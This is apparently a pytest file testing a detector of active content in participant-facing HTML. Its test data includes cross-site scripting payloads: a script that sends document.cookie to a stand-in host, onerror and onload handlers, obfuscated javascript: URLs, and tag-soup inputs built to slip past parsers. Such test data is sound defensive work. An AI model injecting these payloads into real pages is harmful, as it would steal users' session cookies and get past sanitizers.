"""Active content in participant-facing HTML is found by parsing, whatever the spelling."""

import pytest

from taskbuilder.jobspec.html_safety import active_content


@pytest.mark.parametrize("text, found", [
    ('<script>fetch("https://evil.example/?c="+document.cookie)</script>', "<script>"),
    ("<SCRIPT SRC=//x.example/a.js></SCRIPT>", "<script>"),
    ("<img src=x onerror=alert(1)>", "onerror="),
    ("<svg/onload=alert(1)>", "onload="),
    ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "javascript: URL"),
    ("<a href='JaVaScRiPt:alert(1)'>x</a>", "javascript: URL"),
    ("<iframe src=https://example.org></iframe>", "<iframe>"),
    ('<p onclick="x()">Read</p>', "onclick="),
    ("<form action=https://x.example><input></form>", "<form>"),
])
def test_active_content_is_found(text, found):
    assert any(found in item for item in active_content(text)), active_content(text)


@pytest.mark.parametrize("text", ["", "Plain text < 5 and > 3", "<p>Read the <b>review</b>.</p><ul><li>one</li></ul>",
                                  '<a href="https://example.org/guide">guide</a>', "<img src=https://x.example/a.png alt=a>",
                                  "Type &lt;script&gt; to see it"])
def test_basic_html_passes(text):
    assert active_content(text) == []


@pytest.mark.parametrize("text", [
    "<img/src=x/onerror=alert(1)>",                                    # '/' between attributes, as browsers read it
    "<p>a</p><!--><img src=x onerror=alert(1)>-->",                    # '<!-->' closes the comment at once
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",  # foreign content: the img is live
    "<img src=x onerror=alert(1)",                                      # a tag left open at the end
    "<scr<script>ipt>alert(1)</script>",                                # a <script> opening survives the soup
])
def test_tag_soup_that_browsers_read_as_active_is_refused(text):
    """Where html.parser and browsers disagree, the raw-text look still finds the handler or the element."""
    assert active_content(text)


@pytest.mark.parametrize("text", [
    "<p>Click on the option = your answer; online=yes</p>",
    "<p>To show a tag, write &lt;img src=x onerror=y&gt;</p>",
    "Use < and > for comparisons",
])
def test_prose_and_escaped_markup_are_not_refused(text):
    assert active_content(text) == []
